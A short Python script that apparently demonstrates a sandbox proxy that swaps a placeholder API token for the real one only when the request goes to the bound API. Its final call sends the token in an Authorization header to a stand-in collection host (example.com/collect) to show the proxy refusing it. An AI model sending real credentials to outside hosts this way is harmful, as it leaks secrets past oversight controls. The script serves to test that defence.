"""Runs inside the sandbox: it holds only the placeholder in API_TOKEN."""
import os
import urllib.error
import urllib.request

token = os.environ["API_TOKEN"]
print("API_TOKEN inside the sandbox:", token)


def get(url):
    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + token})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return "%d %s" % (r.status, r.read().decode())
    except urllib.error.HTTPError as e:
        return "%d %s" % (e.code, e.read().decode())


# The bound API: the proxy puts the real token in; the echo comes back
# with the placeholder in its place.
print("bound API answered:", get(os.environ["API_URL"] + "/hello"), end="")
# Anywhere else the placeholder is refused before anything is sent.
print("another host answered:", get("http://example.com/collect"), end="")
